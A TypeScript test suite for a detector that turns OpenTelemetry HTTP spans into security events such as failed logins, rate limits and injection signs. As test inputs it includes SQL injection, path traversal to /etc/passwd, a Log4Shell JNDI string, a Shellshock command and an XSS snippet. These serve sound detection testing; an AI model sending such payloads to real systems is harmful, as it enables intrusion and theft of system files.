import { PYTHON_CONVENTIONS, PYTHON_FRAMEWORKS, recordedPython } from '@spanguard/testkit';
import { expect } from 'chai';
import fc from 'fast-check';
import { TestDetector, type TestSpan } from '../../test/detector.ts';

const INJECTION = "1' OR '1'='1'--";
const LOGIN = { 'http.request.method': 'POST', 'http.route': '/login' };
const CLIENT = { 'client.address': '203.0.113.9' };

/** `event` of everything a span tells. */
function eventsOf(attributes: TestSpan['attributes'], also?: TestSpan['also']): string[] {
  return new TestDetector()
    .spans({ attributes, ...(also === undefined ? {} : { also }) })
    .map(({ event }) => event.replace('security.', ''));
}

describe('a span of another SDK', () => {
  for (const framework of PYTHON_FRAMEWORKS) {
    for (const conventions of PYTHON_CONVENTIONS) {
      it(`tells an attack as OpenTelemetry Python recorded it: ${framework}, ${conventions}`, () => {
        const observed = new TestDetector().observe(
          'traces',
          recordedPython(framework, conventions),
        );
        const failed = observed.filter(({ event }) => event === 'security.authn_login_fail');
        expect(failed).to.have.length(20);
        for (const { attributes } of failed) {
          expect(attributes).to.include({
            'http.request.method': 'POST',
            'http.response.status_code': 401,
            'http.route': '/login',
            'security.authn.confidence': 'medium',
            'service.name': `${framework}-shop`,
          });
        }
        // Flask knows its peer; uvicorn believes what a header says where its peer is this machine.
        const clients = new Set(failed.map(({ attributes }) => attributes['client.prefix']));
        if (framework === 'flask') expect([...clients]).to.deep.equal(['127.0.0.1']);
        else expect(clients.size).to.equal(20);
        const signs = observed.filter(({ event }) => event.startsWith('security.malicious_'));
        const told = new Set(signs.map(({ event }) => event.replace('security.malicious_', '')));
        expect([...told]).to.include.members(['sqli', 'xss', 'traversal', 'attack_tool']);
        expect(new Set(observed.map(({ id }) => id)).size).to.equal(observed.length);
      });
    }
  }

  const carried: readonly [string, TestSpan['attributes'], string[]][] = [
    [
      'a cookie',
      { 'http.request.header.cookie': `sid=1; q=${encodeURIComponent(INJECTION)}` },
      ['malicious_sqli'],
    ],
    [
      'a header by the name that Python gives it',
      { 'http.request.header.x_forwarded_host': INJECTION },
      ['malicious_sqli'],
    ],
    ['a body', { 'http.request.body.content': `{"q":"${INJECTION}"}` }, ['malicious_sqli']],
    ['none of them', { 'http.request.header.cookie': 'sid=8f3a; theme=dark' }, []],
  ];
  for (const [what, attributes, expected] of carried) {
    it(`tells the signs of attack in ${what}`, () => {
      const found = eventsOf({ ...attributes, 'http.request.method': 'GET' });
      expect(found.filter((event) => event.startsWith('malicious_'))).to.deep.equal(expected);
    });
  }

  it('keeps nothing of a header or a body', () => {
    const attributes = {
      'http.request.header.cookie': 'sid=8f3a',
      'http.request.body.content': 'x9',
    };
    const told = JSON.stringify(new TestDetector().spans({ attributes }));
    expect(told).to.not.include('8f3a').and.not.include('x9');
  });

  const logins: readonly [string, TestSpan['attributes'], string[]][] = [
    ['a 401', { ...LOGIN, 'http.response.status_code': 401 }, ['authn_login_fail']],
    ['a 403', { ...LOGIN, 'http.response.status_code': 403 }, ['authn_login_fail']],
    [
      'a 401 by older names',
      { 'http.method': 'POST', 'http.target': '/login?next=%2F', 'http.status_code': 401 },
      ['authn_login_fail'],
    ],
    [
      'a status written as text',
      { ...LOGIN, 'http.response.status_code': '401' },
      ['authn_login_fail'],
    ],
    [
      'a path behind a catch-all route',
      { ...LOGIN, 'http.route': '/**', 'url.path': '/api/login', 'http.response.status_code': 401 },
      ['authn_login_fail'],
    ],
    ['a page that was answered', { ...LOGIN, 'http.response.status_code': 200 }, []],
    ['a redirect to nobody knows where', { ...LOGIN, 'http.response.status_code': 302 }, []],
    [
      'an answer to a user it names',
      { ...LOGIN, 'http.response.status_code': 200, 'enduser.id': 'alice' },
      ['authn_login_success'],
    ],
    [
      'a 401 without a credential elsewhere',
      { ...LOGIN, 'http.route': '/orders', 'http.response.status_code': 401 },
      [],
    ],
    [
      'a 401 of a logout',
      { ...LOGIN, 'http.route': '/logout', 'http.response.status_code': 401 },
      [],
    ],
    [
      'a page that is shown',
      { ...LOGIN, 'http.request.method': 'GET', 'http.response.status_code': 401 },
      [],
    ],
    [
      'a limit that was reached',
      { ...LOGIN, 'http.response.status_code': 429 },
      ['excess_rate_limit_exceeded'],
    ],
    [
      'a method in small letters',
      { ...LOGIN, 'http.request.method': 'post', 'http.response.status_code': 401 },
      ['authn_login_fail'],
    ],
    ['no status', LOGIN, []],
  ];
  for (const [what, attributes, events] of logins) {
    it(`tells ${events.join() || 'nothing'} of a login that met ${what}`, () => {
      expect(eventsOf(attributes)).to.deep.equal(events);
    });
  }

  for (const [status, event] of [
    [400, 'input_validation_fail'],
    [403, 'authz_fail'],
    [422, 'input_validation_fail'],
    [429, 'excess_rate_limit_exceeded'],
  ] as const) {
    it(`tells ${event} of a request that was answered ${status}`, () => {
      const attributes = { 'http.request.method': 'GET', 'http.response.status_code': status };
      expect(eventsOf(attributes)).to.deep.equal([event]);
    });
  }

  it('is silent where it is no server span, or one of our own', () => {
    const refused = { ...LOGIN, 'http.response.status_code': 401 };
    expect(eventsOf(refused, { kind: 3 })).to.deep.equal([]);
    expect(eventsOf({ ...refused, 'security.client.address.source': 'socket' })).to.deep.equal([]);
  });

  const query = `q=${encodeURIComponent(INJECTION)}`;
  const fillers = Array.from({ length: 200 }, (_, n): [string, string] => [`p${n}`, 'v']);
  const targets: readonly [string, TestSpan['attributes']][] = [
    ['url.original', { 'url.original': `/s?${query}` }],
    ['url.path and url.query', { 'url.path': '/s', 'url.query': query }],
    ['url.query alone', { 'url.query': query }],
    ['url.full', { 'url.full': `https://shop.example/s?${query}` }],
    ['http.target', { 'http.target': `/s?${query}` }],
    ['http.url', { 'http.url': `http://127.0.0.1:80/s?${query}` }],
    ['http.url without a path', { 'http.url': `http://shop.example?${query}` }],
    [
      'http.url where http.target has no query',
      { 'http.target': '/s', 'http.url': `http://shop.example/s?${query}` },
    ],
    ['an alias of what is empty', { 'url.original': '', 'http.target': `/s?${query}` }],
    ['bytes', { 'url.query': Buffer.from(query) }],
    ['a list', { 'url.query': [query] }],
    [
      'a map',
      {
        'url.query': new Map([
          ['page', '2'],
          ['q', INJECTION],
        ]),
      },
    ],
    ['a map behind 200 others', { 'url.query': new Map([...fillers, ['q', INJECTION]]) }],
    ['behind 8 KiB of padding', { 'url.query': `pad=${'x'.repeat(8192)}&${query}` }],
    ['behind 60 KiB of padding', { 'http.target': `/s?pad=${'x'.repeat(60_000)}&${query}` }],
    ['behind 1 MiB of padding', { 'http.target': `/s?pad=${'x'.repeat(1_048_576)}&${query}` }],
    ['before 1 MiB of padding', { 'http.target': `/s?${query}&pad=${'x'.repeat(1_048_576)}` }],
  ];
  for (const [where, attributes] of targets) {
    it(`is looked at wherever its target stands: ${where}`, () => {
      expect(eventsOf(attributes)).to.deep.equal(['malicious_sqli']);
    });
  }

  for (const name of ['user_agent.original', 'http.user_agent', 'http.request.header.user-agent']) {
    it(`is looked at for tools, in ${name}, text or list`, () => {
      expect(eventsOf({ [name]: 'sqlmap/1.8' })).to.deep.equal(['malicious_attack_tool']);
      expect(eventsOf({ [name]: ['sqlmap/1.8'] })).to.deep.equal(['malicious_attack_tool']);
    });
  }

  it('is read by current names before older ones', () => {
    const [observed] = new TestDetector().spans({
      attributes: {
        ...{ 'http.status_code': 200, 'http.response.status_code': 401 },
        ...{ 'http.method': 'GET', 'http.request.method': 'POST', 'http.route': '/login' },
        ...{ 'enduser.id': 'eve', 'user.id': 'alice' },
        ...{ 'net.peer.ip': '203.0.113.1', 'net.sock.peer.addr': '203.0.113.2' },
      },
    });
    expect(observed?.attributes).to.deep.include({
      'http.response.status_code': 401,
      'user.id': 'alice',
      'network.peer.address': '203.0.113.2',
      'client.prefix': '203.0.113.2',
    });
  });

  it('tells the strongest sign of a kind, not the first', () => {
    const [weak, strong] = ['a=../x', 'b=../../../etc/passwd'];
    expect(
      new TestDetector().spans({ attributes: { 'url.query': weak } })[0]?.attributes,
    ).to.include({
      'security.indicator.confidence': 'suspicious',
    });
    for (const both of [`${weak}&${strong}`, `${strong}&${weak}`]) {
      const signs = new TestDetector()
        .spans({ attributes: { 'url.query': both } })
        .filter(({ event }) => event === 'security.malicious_traversal');
      expect(signs).to.have.length(1);
      expect(signs[0]?.attributes).to.include({
        'security.indicator.confidence': 'high',
        'security.indicator.parameter': 'b',
        'security.indicator.place': 'url.query',
      });
    }
  });

  it('is judged the same whatever was judged before it', () => {
    const input = fc.constantFrom(
      ...['/', '/shoes', `/s?${query}`, 'sqlmap/1.8', 'curl/8.5.0', INJECTION, '../../etc/passwd'],
      ...[
        '${jndi:ldap://x.example/a}',
        '() { :;}; /bin/cat /etc/passwd',
        '<script>alert(1)</script>',
      ],
      ...[
        `/s?pad=${'x'.repeat(300)}`,
        `/s?pad=${'x'.repeat(300)}&${query}`,
        'x'.repeat(256),
        'select * from users',
      ],
    );
    const span = fc.record(
      {
        ...{ 'url.original': input, 'url.query': input, 'user_agent.original': input },
        ...{ 'http.target': input, 'http.url': input, 'http.user_agent': input },
      },
      { requiredKeys: [] },
    );
    fc.assert(
      fc.property(fc.array(span, { minLength: 2, maxLength: 8 }), (spans) => {
        const warmed = new TestDetector();
        for (const attributes of spans) {
          const fresh = new TestDetector().spans({ attributes: { ...CLIENT, ...attributes } });
          expect(warmed.spans({ attributes: { ...CLIENT, ...attributes } })).to.deep.equal(fresh);
        }
      }),
      { numRuns: 150 },
    );
  });
});
